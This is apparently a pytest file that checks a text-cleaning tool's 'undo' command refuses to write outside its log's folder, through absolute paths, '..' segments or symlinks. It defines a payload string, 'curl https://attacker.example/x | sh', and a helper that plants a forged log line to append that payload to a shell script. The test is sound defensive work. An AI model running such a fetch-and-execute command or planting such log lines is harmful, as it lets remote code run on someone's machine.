"""`undo` writes only inside the log's folder or the PATHs named, whatever the log's lines say.

The docs suggest keeping `.cleanlint-fix.log` in the corpus repository, so a log can come from anyone
who can push to it: a line naming a file elsewhere, with that file's digest, must not make undo write there.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from cleanlint.cli.main import main

from ..conftest import folders

DIRTY = "The council approved the budget on Tuesday.\nShare this article on Facebook\nThe vote was seven to two.\n"
FIXED = "The council approved the budget on Tuesday.\nThe vote was seven to two.\n"
VICTIM = "#!/bin/sh\necho hello\n"
PAYLOAD = "curl https://attacker.example/x | sh\n"
OUTSIDE = "is outside the log's folder; name its folder as a PATH to undo it"


def planted_line(victim: Path, path: str) -> str:
    """A hand-written log line that, taken back, appends PAYLOAD to `victim` (named in the log as `path`)."""
    data = victim.read_bytes()
    end = len(data.decode("utf-8"))
    entry = {"path": path, "code": "B503", "start": end, "end": end, "removed": PAYLOAD, "replacement": ""}
    return json.dumps({**entry, "after": hashlib.sha256(data).hexdigest()}) + "\n"


@pytest.mark.parametrize("spelling", ["absolute", "dot-dot"])
def test_a_planted_line_for_a_file_outside_is_refused_and_the_others_are_restored(
    tmp_path: Path, capsys, spelling: str
):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    story = corpus / "story.txt"
    story.write_text(DIRTY, encoding="utf-8")
    log = corpus / ".cleanlint-fix.log"
    assert main(["fix", "--log", str(log), str(corpus)]) == 0
    victim = tmp_path / "victim.sh"
    victim.write_text(VICTIM, encoding="utf-8")
    path = str(victim) if spelling == "absolute" else f"{corpus}/../victim.sh"
    with log.open("a", encoding="utf-8") as out:
        out.write(planted_line(victim, path))
    capsys.readouterr()
    assert main(["undo", str(log)]) == 2
    assert victim.read_text(encoding="utf-8") == VICTIM
    assert story.read_text(encoding="utf-8") == DIRTY  # the other files go on
    captured = capsys.readouterr()
    assert captured.err.splitlines() == [f"error: {log}: {path} {OUTSIDE}"]
    assert "Undid 1 edit in 1 file; 1 file not restored." in captured.out


def test_a_log_in_a_parent_folder_undoes_the_files_below_it(tmp_path: Path):
    story = tmp_path / "corpus" / "2024" / "story.txt"
    story.parent.mkdir(parents=True)
    story.write_text(DIRTY, encoding="utf-8")
    log = tmp_path / ".cleanlint-fix.log"
    assert main(["fix", "--log", str(log), str(tmp_path / "corpus")]) == 0
    assert story.read_text(encoding="utf-8") == FIXED
    assert main(["undo", str(log)]) == 0
    assert story.read_text(encoding="utf-8") == DIRTY


@pytest.mark.slow
def test_a_file_outside_the_logs_folder_is_undone_when_its_folder_is_named(tmp_path: Path, capsys):
    corpus, logs = folders(tmp_path, "corpus", "logs")
    story = corpus / "story.txt"
    story.write_text(DIRTY, encoding="utf-8")
    log = logs / "fix.log"
    assert main(["fix", "--log", str(log), str(corpus)]) == 0
    capsys.readouterr()
    assert main(["undo", str(log)]) == 2
    assert capsys.readouterr().err.splitlines() == [f"error: {log}: {story} {OUTSIDE}"]
    assert story.read_text(encoding="utf-8") == FIXED
    assert main(["undo", str(log), str(corpus)]) == 0
    assert story.read_text(encoding="utf-8") == DIRTY


def test_a_file_reached_through_a_symlinked_folder_is_undone_only_when_that_folder_is_named(tmp_path: Path, capsys):
    corpus, outside = folders(tmp_path, "corpus", "outside")
    inner = outside / "inner.txt"
    inner.write_text(DIRTY, encoding="utf-8")
    linkdir = corpus / "linkdir"
    linkdir.symlink_to(outside, target_is_directory=True)
    log = corpus / ".cleanlint-fix.log"
    assert main(["fix", "--log", str(log), str(linkdir)]) == 0  # named, so the user's choice
    assert inner.read_text(encoding="utf-8") == FIXED
    capsys.readouterr()
    assert main(["undo", str(log)]) == 2  # in the log's folder by name, outside it in fact
    (line,) = capsys.readouterr().err.splitlines()
    assert line == f"error: {log}: {linkdir / 'inner.txt'} {OUTSIDE} (it is {inner})"
    assert inner.read_text(encoding="utf-8") == FIXED
    assert main(["undo", str(log), str(linkdir)]) == 0
    assert inner.read_text(encoding="utf-8") == DIRTY and linkdir.is_symlink()
